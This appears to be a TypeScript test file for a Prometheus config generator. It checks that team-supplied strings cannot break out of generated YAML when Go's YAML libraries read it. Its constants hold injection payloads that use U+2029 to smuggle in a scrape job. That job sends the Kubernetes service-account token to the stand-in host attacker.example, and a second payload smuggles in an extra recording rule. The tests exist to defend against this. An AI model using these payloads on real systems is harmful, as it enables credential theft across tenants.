/**
 * What Prometheus reads is what promop meant: the files promop writes are read with the Go YAML libraries
 * Prometheus itself uses (tools/go-check: go.yaml.in/yaml/v2 for prometheus.yaml and scrape files, yaml/v3 for rule
 * files) and compared with the values promop put in them. A team's string must never end its line, start a job or
 * rule of its own, or make the shared file unreadable for everyone.
 */
import { readdirSync, readFileSync, statSync } from 'node:fs';
import { dirname, join, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import { load } from 'js-yaml';
import type { Prometheus, PrometheusRule, ServiceMonitor } from '@promop/crds';
import { readYamlWithGo } from '@promop/testkit';
import { checkYamlRoundTrip, roundTripMismatches } from './test-support/yaml-round-trip.ts';
import { generate } from './generate.ts';
import type { GeneratorInput, GeneratorOutput } from './model.ts';

const GOLDEN_ROOT = resolve(dirname(fileURLToPath(import.meta.url)), '..', 'test', 'golden');

/** The attacker's payload: a line break Go's YAML readers honour, then a job of the attacker's choosing. */
const INJECTED_JOB = [
  'x',
  '- job_name: injected',
  '  bearer_token_file: /var/run/secrets/kubernetes.io/serviceaccount/token',
  '  static_configs:',
  '  - targets: [attacker.example:80]',
].join('\u2029');

const INJECTED_RULE = ['x', '- record: stolen', '  expr: sum by (namespace) (up)'].join('\u2029');

function prometheus(spec: Record<string, unknown> = {}): Prometheus {
  return {
    apiVersion: 'monitoring.coreos.com/v1',
    kind: 'Prometheus',
    metadata: { namespace: 'monitoring', name: 'main' },
    spec: { serviceMonitorSelector: {}, serviceMonitorNamespaceSelector: {}, ruleSelector: {}, ruleNamespaceSelector: {}, enforcedNamespaceLabel: 'namespace', ...spec },
  } as Prometheus;
}

function serviceMonitor(namespace: string, name: string, endpoint: Record<string, unknown>): ServiceMonitor {
  return {
    apiVersion: 'monitoring.coreos.com/v1',
    kind: 'ServiceMonitor',
    metadata: { namespace, name, uid: `uid-${name}` },
    spec: { selector: { matchLabels: { app: name } }, endpoints: [{ port: 'web', ...endpoint }] },
  } as ServiceMonitor;
}

function prometheusRule(namespace: string, name: string, rule: Record<string, unknown>): PrometheusRule {
  return {
    apiVersion: 'monitoring.coreos.com/v1',
    kind: 'PrometheusRule',
    metadata: { namespace, name, uid: `uid-${name}` },
    spec: { groups: [{ name: `${name}-group`, rules: [{ expr: 'up == 0', ...rule }] }] },
  } as PrometheusRule;
}

function render(partial: Partial<GeneratorInput>): GeneratorOutput {
  const output = generate({
    prometheus: prometheus(),
    serviceMonitors: [],
    podMonitors: [],
    prometheusRules: [],
    namespaces: [{ name: 'monitoring', labels: {} }, { name: 'team-a', labels: {} }, { name: 'team-b', labels: {} }],
    secrets: [],
    configMaps: [],
    ...partial,
  });
  expect(output.prometheusProblems).toEqual([]);
  return output;
}

/** prometheus.yaml and its scrape files as Prometheus reads them (yaml.v2): each must read without error. */
async function scrapeJobsAsGoReadsThem(output: GeneratorOutput): Promise<Array<Record<string, unknown>>> {
  const texts = [output.configs[0]!, ...(output.scrapeFiles[0] ?? []).map((file) => file.text)];
  const readings = await readYamlWithGo('yaml-v2', texts);
  for (const reading of readings) expect(reading.error).toBeUndefined();
  return readings.flatMap((reading) => ((reading.value as { scrape_configs?: Array<Record<string, unknown>> }).scrape_configs ?? []));
}

/** The rule files as Prometheus reads them (yaml.v3). */
async function rulesAsGoReadThem(output: GeneratorOutput): Promise<Array<Record<string, unknown>>> {
  const texts = output.ruleConfigMaps.flatMap((configMap) => Object.values(configMap.files));
  const readings = await readYamlWithGo('yaml-v3', texts);
  for (const reading of readings) expect(reading.error).toBeUndefined();
  return readings.flatMap((reading) =>
    ((reading.value as { groups: Array<{ rules: Array<Record<string, unknown>> }> }).groups ?? []).flatMap((group) => group.rules),
  );
}

describe('a team relabeling whose replacement holds U+2029 and a job of its own', () => {
  it('is read by Prometheus as that one string: no job is added and the team job keeps its namespace', async () => {
    const output = render({
      serviceMonitors: [
        serviceMonitor('team-a', 'checkout', {}),
        serviceMonitor('team-b', 'search', { relabelings: [{ targetLabel: 'note', replacement: INJECTED_JOB }] }),
      ],
    });
    const jobs = await scrapeJobsAsGoReadsThem(output);
    expect(jobs.map((job) => job.job_name)).toEqual(['serviceMonitor/team-a/checkout/0', 'serviceMonitor/team-b/search/0']);
    const search = jobs[1]!;
    const relabelings = search.relabel_configs as Array<Record<string, unknown>>;
    expect(relabelings.some((rule) => rule.replacement === INJECTED_JOB)).toBe(true);
    // enforcedNamespaceLabel's rule still sets the team's own namespace, after the team's relabelings.
    const enforced = relabelings.findIndex((rule) => rule.target_label === 'namespace' && rule.replacement === 'team-b');
    expect(enforced).toBeGreaterThan(relabelings.findIndex((rule) => rule.replacement === INJECTED_JOB));
    expect(search.bearer_token_file).toBeUndefined();
  });
});

describe('a team PrometheusRule whose label holds U+2029 and a recording rule of its own', () => {
  it('is read by Prometheus as that one label: no rule is added', async () => {
    const output = render({
      prometheusRules: [prometheusRule('team-b', 'alerts', { alert: 'Down', labels: { severity: INJECTED_RULE } })],
    });
    const rules = await rulesAsGoReadThem(output);
    expect(rules).toHaveLength(1);
    expect(rules[0]!.alert).toBe('Down');
    expect((rules[0]!.labels as Record<string, string>).severity).toBe(INJECTED_RULE);
  });
});

describe('keys longer than an implicit YAML key may be', () => {
  it('reach Prometheus as the exact key, and the file stays readable for every team', async () => {
    const longParam = `p${'x'.repeat(2000)}`;
    const longAnnotation = `a${'y'.repeat(2000)}`;
    const output = render({
      serviceMonitors: [serviceMonitor('team-a', 'checkout', {}), serviceMonitor('team-b', 'search', { params: { [longParam]: ['1'] } })],
      prometheusRules: [prometheusRule('team-b', 'alerts', { alert: 'Down', annotations: { [longAnnotation]: 'v' } })],
    });
    const jobs = await scrapeJobsAsGoReadsThem(output);
    expect(jobs.map((job) => job.job_name)).toEqual(['serviceMonitor/team-a/checkout/0', 'serviceMonitor/team-b/search/0']);
    expect(jobs[1]!.params).toEqual({ [longParam]: ['1'] });
    const rules = await rulesAsGoReadThem(output);
    expect(rules[0]!.annotations).toEqual({ [longAnnotation]: 'v' });
  });
});

describe('the YAML writer, given strings a team can write', () => {
  it('writes the attack forms and awkward characters so that both Go readers read back exactly those strings', () => {
    const texts = [
      INJECTED_JOB, INJECTED_RULE, 'a\u0085b', 'a\u2028b', '\u007f', '\u0080', '\u009f', '\ufeffx', 'x\ufeff', '\ufffe', '\uffff',
      '\u0000', '\u001b[31m', 'x\n  y', '\n  y', '\n\n y\n', ' lead', 'trail ', '--- a', '... b', 'k'.repeat(1100),
      `${'\u2029'.repeat(300)}k`, '\ud83d\ude00'.repeat(600), 'tab\tin\nblock', 'crlf\r\nx', '\ud800', 'x\udfffy',
    ];
    expect(roundTripMismatches(texts)).toEqual([]);
  });

  it('holds for arbitrary strings in every position (property, 2,000 strings)', () => {
    const result = checkYamlRoundTrip({ batches: 10, batchSize: 200, seed: 20261206 });
    expect(result.failure).toBe('');
    expect(result.strings).toBe(2000);
  });
});

describe('every golden file', () => {
  /** All .yaml files under test/golden. */
  function goldenFiles(dir: string): string[] {
    return readdirSync(dir).flatMap((entry) => {
      const path = join(dir, entry);
      if (statSync(path).isDirectory()) return goldenFiles(path);
      return entry.endsWith('.yaml') ? [path] : [];
    });
  }

  it('is read by Prometheus\' YAML library as the same value js-yaml reads', async () => {
    const files = goldenFiles(GOLDEN_ROOT);
    expect(files.length).toBeGreaterThan(50);
    const texts = files.map((file) => readFileSync(file, 'utf8'));
    for (const library of ['yaml-v2', 'yaml-v3'] as const) {
      const readings = await readYamlWithGo(library, texts);
      readings.forEach((reading, index) => {
        expect({ file: files[index], error: reading.error }).toEqual({ file: files[index], error: undefined });
        expect({ file: files[index], value: reading.value }).toEqual({ file: files[index], value: load(texts[index]!) });
      });
    }
  });
});
